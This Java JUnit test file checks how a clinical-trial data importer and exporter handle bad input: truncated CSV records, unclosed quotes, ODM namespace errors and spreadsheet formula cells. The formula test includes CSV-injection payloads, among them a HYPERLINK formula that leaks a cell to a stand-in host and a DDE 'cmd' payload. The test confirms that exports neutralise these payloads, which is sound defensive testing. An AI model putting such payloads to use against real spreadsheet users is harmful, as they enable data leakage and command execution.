package org.painlab.trial.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.painlab.core.Study;
import org.painlab.core.importer.ImportException;
import org.painlab.core.importer.ImportProblem;
import org.painlab.core.importer.ImportReport;
import org.painlab.core.store.AuditLog;
import org.painlab.trial.store.InstrumentCatalog;
import org.painlab.trial.store.TrialStore;
import org.painlab.trial.store.TrialTestStudies;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;

/**
 * Issue 9: truncated and short records, an open quote, formula cells, an unknown column or ODM item
 * and an ODM file of another namespace, each from a small file of {@code corpus/bad-input} (large
 * files are generated here). A refused file names the file, the record and line and the field, and
 * leaves the study as it was.
 */
class BadInputTest {
    /** The corpus, relative to the test bundle (the folder tests run in). */
    static final Path CORPUS = Path.of("corpus", "bad-input");

    @TempDir
    Path tmp;
    Study study;
    TrialExchange exchange;
    Map<String, Object> infoBefore;
    long auditBefore;

    @BeforeEach
    void setUp() throws Exception {
        assertTrue(Files.isDirectory(CORPUS), "the corpus is found from " + Path.of("").toAbsolutePath());
        study = TrialTestStudies.demo(tmp.resolve("demo"));
        exchange = new TrialExchange(new TrialStore(study, InstrumentCatalog.installed()));
        remember();
    }

    private void remember() throws Exception {
        infoBefore = study.info().toMap();
        auditBefore = study.read(c -> new AuditLog(c).size());
    }

    @AfterEach
    void tearDown() throws Exception {
        study.close();
    }

    private void assertUnchanged() throws Exception {
        assertEquals(infoBefore, study.info().toMap(), "the study is unchanged");
        assertEquals(auditBefore, (long) study.read(c -> new AuditLog(c).size()), "no audit row was added");
    }

    private static Path corpus(String name) {
        Path p = CORPUS.resolve(name);
        assertTrue(Files.isRegularFile(p), "corpus file " + p.toAbsolutePath());
        return p;
    }

    /** Rejects the file, checks the message names it and the study is unchanged, returns the problems. */
    private List<ImportProblem> reject(Path file, ImportOptions options) throws Exception {
        ImportException e = assertThrows(ImportException.class, () -> exchange.importFile(file, options, null));
        assertFalse(e.problems().isEmpty());
        assertTrue(e.getMessage().contains(file.getFileName().toString()), e.getMessage());
        for (ImportProblem p : e.problems()) {
            assertEquals(file.getFileName().toString(), p.file(), p.toString());
        }
        assertUnchanged();
        return e.problems();
    }

    private static ImportProblem only(List<ImportProblem> problems) {
        assertEquals(1, problems.size(), problems.toString());
        return problems.get(0);
    }

    // ------------------------------------------------------------------ item 1: short and truncated records

    @Test
    void aCsvCutOffInsideARecordIsRejectedNamingTheRecordItsLineAndTheMissingFields() throws Exception {
        Path file = corpus("csv/truncated.csv");
        ImportProblem p = only(reject(file, ImportOptions.forFile(file)));
        assertEquals(6, p.record(), "the line of the cut record: " + p);
        assertEquals("age", p.field(), "the first missing field: " + p);
        assertTrue(p.rule().startsWith("record 5 (line 6) has 3 of the header's 10 fields: 7 missing (age, sex, vas.admission, "
                + "odi.admission.pain_intensity, odi.admission.personal_care, ... 2 more)"), p.rule());
        assertTrue(p.rule().contains("cut off"), p.rule());
    }

    @Test
    void aShortRecordInTheMiddleIsRejectedLikeATooLongOne() throws Exception {
        Path shortFile = corpus("csv/short-record.csv");
        ImportProblem s = only(reject(shortFile, ImportOptions.forFile(shortFile)));
        assertEquals(3, s.record(), s.toString());
        assertEquals("stratum", s.field(), s.toString());
        assertTrue(s.rule().startsWith("record 2 (line 3) has 2 of the header's 10 fields: 8 missing (stratum, age, sex, "), s.rule());

        Path longFile = corpus("csv/too-many-fields.csv");
        ImportProblem l = only(reject(longFile, ImportOptions.forFile(longFile)));
        assertEquals(3, l.record(), l.toString());
        assertTrue(l.rule().startsWith("record 2 (line 3) has 9 fields, the header 6: 1 value beyond the last column ('7')"),
                l.rule());
    }

    @Test
    void aGeneratedFileCutFortyPercentIntoRecord41WithAShortRecord20NamesBoth() throws Exception {
        int columns = 153;
        StringBuilder sb = new StringBuilder("subject_id,arm");
        for (int c = 2; c < columns; c++) {
            sb.append(",v").append(c);
        }
        sb.append("\r\n");
        int cutAt = 0;
        for (int r = 1; r <= 45; r++) {
            StringBuilder row = new StringBuilder("GEN-" + r + "," + (r % 2 == 0 ? "S" : "P"));
            int fields = r == 20 ? 20 : columns;
            for (int c = 2; c < fields; c++) {
                row.append(',').append((r * 7 + c) % 100);
            }
            if (r == 41) {
                cutAt = sb.length() + (int) (row.length() * 0.4);
            }
            sb.append(row).append("\r\n");
        }
        String cut = sb.substring(0, cutAt);
        String lastRecord = cut.substring(cut.lastIndexOf('\n') + 1);
        int present = lastRecord.split(",", -1).length;
        Path file = tmp.resolve("cut.csv");
        Files.writeString(file, cut);
        ImportProblem p = only(reject(file, ImportOptions.forFile(file)));
        assertEquals(21, p.record(), p.toString());
        assertEquals("v20", p.field(), "the first missing field of record 20: " + p);
        assertTrue(p.rule().startsWith("record 20 (line 21) has 20 of the header's 153 fields: 133 missing (v20, v21, v22, v23, "
                + "v24, ... 128 more)"), p.rule());
        assertTrue(p.rule().contains("1 more record does not fit the header either: record 41 (line 42)"), p.rule());
        assertTrue(present > 1 && present < columns, "the cut leaves record 41 short: " + present);
    }

    @Test
    void aQuoteThatIsNeverClosedIsReportedWhereItOpened() throws Exception {
        Path file = corpus("csv/unclosed-quote.csv");
        ImportProblem p = only(reject(file, ImportOptions.forFile(file)));
        assertEquals(6, p.record(), p.toString());
        assertEquals("arm", p.field(), p.toString());
        assertTrue(p.rule().startsWith("a quote opened on line 6 in field arm (record 4, starting on line 6) is never closed"),
                p.rule());
        assertFalse(p.rule().contains("unknown arm"), p.rule());
    }

    @Test
    void aRedcapExportCutOffInsideARecordIsRejectedLikeACsv() throws Exception {
        Path file = corpus("redcap/truncated.csv");
        ImportProblem p = only(reject(file, ImportOptions.forFile(file).withFormat(ExchangeFormat.REDCAP)));
        assertEquals(5, p.record(), p.toString());
        assertEquals("weight", p.field(), p.toString());
        assertTrue(p.rule().startsWith("record 4 (line 5) has 3 of the header's 7 fields: 4 missing (weight, smoker, comments, "
                + "demographics_complete)"), p.rule());
    }

    // ------------------------------------------------------------------ item 2: formulas

    @Test
    void formulaLikeCellsImportAsTextWithWarningsAndExportNeutralisedNumbersStayNumbers() throws Exception {
        Path file = corpus("csv/formula-cells.csv");
        ImportReport r = exchange.importFile(file, ImportOptions.forFile(file), null).report();
        assertTrue(r.refused().isEmpty(), r.refused().toString());
        List<String> warned = new ArrayList<>();
        for (ImportProblem w : r.warnings()) {
            warned.add(w.record() + ":" + w.field());
        }
        assertEquals(List.of("0:", "2:stratum", "3:note", "5:note"), warned, r.warnings().toString());
        assertEquals("2 new variables: note (text), delta (number) (not defined in the study: the import defines them; if a "
                + "column is misspelt, rename or map it)", r.warnings().get(0).rule());
        assertTrue(r.warnings().get(1).rule().startsWith("looks like a spreadsheet formula: '=HYPERLINK(\"http://x.example/?\"&A1,\"clic…'"),
                r.warnings().get(1).rule());
        TrialStore store = new TrialStore(study);
        String hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
        assertEquals(hyperlink, store.subject("NEW-001").orElseThrow().stratum(), "imported as the text it is");

        Path csv = tmp.resolve("out.csv");
        exchange.exportFile(csv, new ExportOptions(ExchangeFormat.CSV, Layout.WIDE), null);
        Map<String, String> n1 = row(csv, "subject_id", "NEW-001");
        assertEquals("'" + hyperlink, n1.get("stratum"));
        assertEquals("-1.5", n1.get("delta"), "a negative number stays a number");
        assertEquals("'@SUM(1+1)", row(csv, "subject_id", "NEW-002").get("note"));
        assertEquals("'- none -", row(csv, "subject_id", "NEW-003").get("note"), "OWASP: every text starting with - is quoted");
        assertEquals("-3", row(csv, "subject_id", "NEW-003").get("delta"));
        assertEquals("'=cmd|' /C calc'!A0", row(csv, "subject_id", "NEW-004").get("note"));
        assertEquals("0.5", row(csv, "subject_id", "NEW-004").get("delta"));

        Path redcap = tmp.resolve("out_redcap.csv");
        exchange.exportFile(redcap, new ExportOptions(ExchangeFormat.REDCAP, Layout.WIDE), null);
        Map<String, String> rc = row(redcap, "subject_id", "NEW-001");
        assertEquals("'" + hyperlink, rc.get("stratum"));
        assertEquals("-1.5", rc.get("delta"));
        String all = Files.readString(redcap);
        for (String line : all.split("\r\n")) {
            for (String cell : line.split(",", -1)) {
                assertFalse(cell.startsWith("=") || cell.startsWith("@") || cell.startsWith("\"="), "raw formula in: " + line);
            }
        }

        // the quote is taken off again on import: an export imports back unchanged
        try (Study other = TrialTestStudies.create(tmp.resolve("other"))) {
            new TrialExchange(new TrialStore(other, InstrumentCatalog.installed())).importFile(csv, ImportOptions.forFile(csv), null);
            TrialStore back = new TrialStore(other);
            assertEquals(hyperlink, back.subject("NEW-001").orElseThrow().stratum());
            assertEquals("=cmd|' /C calc'!A0", back.baseline("NEW-004").get("note").text());
            assertEquals(-1.5, back.baseline("NEW-001").get("delta").number());
        }
    }

    @Test
    void redcapFormulaCellsAreWarnedOfAndTheNewVariablesListed() throws Exception {
        try (Study empty = TrialTestStudies.create(tmp.resolve("empty"))) {
            Path file = corpus("redcap/formula.csv");
            ImportReport r = new TrialExchange(new TrialStore(empty, InstrumentCatalog.installed()))
                    .importFile(file, ImportOptions.forFile(file).withFormat(ExchangeFormat.REDCAP), null).report();
            List<String> warned = new ArrayList<>();
            for (ImportProblem w : r.warnings()) {
                warned.add(w.record() + ":" + w.field());
            }
            assertEquals(List.of("0:", "2:comments", "3:site", "3:comments"), warned, r.warnings().toString());
            assertTrue(r.warnings().get(0).rule().startsWith("5 new variables: site (text), height (integer), weight (number), "
                    + "smoker (integer), comments (text) (the study defined no variables"), r.warnings().get(0).rule());
        }
    }

    @Test
    void anXlsxFormulaCellImportsItsCachedValueWithAWarningNamingSheetCellAndField() throws Exception {
        Path file = tmp.resolve("formulas.xlsx");
        writeWorkbook(file, "Data", """
                <row r="1"><c r="A1" t="inlineStr"><is><t>subject_id</t></is></c><c r="B1" t="inlineStr"><is><t>height</t></is></c>\
                <c r="C1" t="inlineStr"><is><t>weight</t></is></c></row>\
                <row r="2"><c r="A2" t="inlineStr"><is><t>X-1</t></is></c><c r="B2"><v>170</v></c><c r="C2"><f>B2*0.4</f><v>68</v></c></row>\
                <row r="3"><c r="A3" t="inlineStr"><is><t>X-2</t></is></c><c r="B3"><v>180</v></c><c r="C3"><v>75</v></c></row>""");
        try (Study empty = TrialTestStudies.create(tmp.resolve("empty"))) {
            ImportReport r = new TrialExchange(new TrialStore(empty, InstrumentCatalog.installed()))
                    .importFile(file, ImportOptions.forFile(file), null).report();
            ImportProblem w = r.warnings().stream().filter(x -> x.record() == 2).findFirst().orElseThrow(() -> new AssertionError(
                    r.warnings().toString()));
            assertEquals("weight", w.field());
            assertEquals("sheet 'Data' cell C2 (field weight): a formula (=B2*0.4); the value the workbook last computed, '68', "
                    + "is imported (the formula is not kept and not run)", w.rule());
            assertEquals(2, r.warnings().size(), "the new variables, then the one formula: " + r.warnings());
            assertEquals(68.0, new TrialStore(empty).baseline("X-1").get("weight").number());
        }
    }

    // ------------------------------------------------------------------ item 4: unknown columns and ODM items, namespace

    @Test
    void anUnknownColumnBecomesAVariableThatTheReportNames() throws Exception {
        Path file = tmp.resolve("typo.csv");
        Files.writeString(file, "subject_id,arm,age,sex,agee\r\nNEW-100,S,50,M,51\r\n");
        ImportReport r = exchange.importFile(file, ImportOptions.forFile(file), null).report();
        assertEquals("1 new variable: agee (integer) (not defined in the study: the import defines them; if a column is "
                + "misspelt, rename or map it)", r.warnings().get(0).rule());
    }

    @Test
    void anOdmFileInAnotherNamespaceIsRefusedNamingTheNamespace() throws Exception {
        Path file = corpus("odm/foreign-namespace.xml");
        ImportProblem p = only(reject(file, ImportOptions.forFile(file)));
        assertEquals(3, p.record(), p.toString());
        assertEquals("not a CDISC ODM 1.3 file: the root element is <ODM> in the namespace http://www.cdisc.org/ns/odm/v2.0 "
                + "(expected <ODM> in the namespace http://www.cdisc.org/ns/odm/v1.3, as REDCap and OpenClinica write it)", p.rule());
    }

    @Test
    void anOdmItemWithoutItemDefIsRefusedNotMadeAVariable() throws Exception {
        Path file = corpus("odm/unknown-item.xml");
        List<ImportProblem> problems = reject(file, ImportOptions.forFile(file));
        ImportProblem p = only(problems);
        assertEquals(28, p.record(), "the line of the ItemData: " + p);
        assertEquals("I.BASELINE.wieght", p.field());
        assertTrue(p.rule().contains("not defined in the file's metadata (no ItemDef with this OID)"), p.rule());

        ImportReport r = exchange.importFile(file, ImportOptions.forFile(file).withAcceptRefusals(true), null).report();
        assertEquals(1, r.refused().size());
        List<String> names = new TrialStore(study).variableDefinitions().stream().map(d -> d.name()).toList();
        assertTrue(names.contains("weight"), names.toString());
        assertFalse(names.contains("wieght") || names.contains("I.BASELINE.wieght"), names.toString());
        Path valid = corpus("odm/valid.xml");
        try (Study empty = TrialTestStudies.create(tmp.resolve("empty"))) {
            ImportReport ok = new TrialExchange(new TrialStore(empty, InstrumentCatalog.installed()))
                    .importFile(valid, ImportOptions.forFile(valid), null).report();
            assertTrue(ok.warnings().get(0).rule().startsWith("1 new variable: weight (number)"), ok.warnings().toString());
        }
    }

    @Test
    void bytesThatAreNotUtf8InXmlGiveAProblemAndNothingOnStderr() throws Exception {
        PrintStream before = System.err;
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        List<ImportProblem> problems;
        System.setErr(new PrintStream(err, true, StandardCharsets.UTF_8));
        try {
            Path file = corpus("odm/latin1-bytes.xml");
            problems = reject(file, ImportOptions.forFile(file));
            Path xlsx = tmp.resolve("latin1.xlsx");
            writeWorkbook(xlsx, "Data", "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>caf\u00e9</t></is></c></row>",
                    StandardCharsets.ISO_8859_1);
            problems = new ArrayList<>(problems);
            problems.addAll(reject(xlsx, ImportOptions.forFile(xlsx)));
        } finally {
            System.setErr(before);
        }
        assertEquals("", err.toString(StandardCharsets.UTF_8), "the XML parser prints nothing");
        assertEquals(2, problems.size(), problems.toString());
        assertEquals(2, problems.get(0).record(), problems.toString());
        assertTrue(problems.get(0).rule().contains("not UTF-8 text"), problems.toString());
        assertTrue(problems.get(1).rule().contains("not UTF-8 text"), problems.toString());
    }

    // ------------------------------------------------------------------ helpers

    /** The cells of the row whose {@code key} column holds {@code value}, by header name. */
    static Map<String, String> row(Path csv, String key, String value) throws IOException {
        try (CsvReader<CsvRecord> r = CsvReader.builder().ofCsvRecord(csv)) {
            List<String> header = null;
            for (CsvRecord rec : r) {
                if (header == null) {
                    header = rec.getFields();
                    continue;
                }
                int k = header.indexOf(key);
                if (rec.getField(k).equals(value)) {
                    Map<String, String> m = new java.util.LinkedHashMap<>();
                    for (int i = 0; i < header.size(); i++) {
                        m.put(header.get(i), i < rec.getFieldCount() ? rec.getField(i) : "");
                    }
                    return m;
                }
            }
        }
        throw new AssertionError("no row with " + key + " = " + value + " in " + csv);
    }

    static void writeWorkbook(Path file, String sheetName, String rows) throws IOException {
        writeWorkbook(file, sheetName, rows, StandardCharsets.UTF_8);
    }

    /** A minimal workbook: one sheet with the given rows (the sheet XML in the given encoding). */
    static void writeWorkbook(Path file, String sheetName, String rows, java.nio.charset.Charset sheetEncoding) throws IOException {
        try (OutputStream out = Files.newOutputStream(file); ZipOutputStream zip = new ZipOutputStream(out)) {
            put(zip, "[Content_Types].xml", """
                    <?xml version="1.0" encoding="UTF-8"?>
                    <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
                    <Default Extension="xml" ContentType="application/xml"/></Types>""", StandardCharsets.UTF_8);
            put(zip, "xl/workbook.xml", """
                    <?xml version="1.0" encoding="UTF-8"?>
                    <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
                    xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
                    <sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>""".formatted(sheetName),
                    StandardCharsets.UTF_8);
            put(zip, "xl/_rels/workbook.xml.rels", """
                    <?xml version="1.0" encoding="UTF-8"?>
                    <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                    <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" \
                    Target="worksheets/sheet1.xml"/></Relationships>""", StandardCharsets.UTF_8);
            put(zip, "xl/worksheets/sheet1.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                    + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + rows
                    + "</sheetData></worksheet>", sheetEncoding);
        }
    }

    private static void put(ZipOutputStream zip, String name, String text, java.nio.charset.Charset cs) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(cs));
        zip.closeEntry();
    }
}
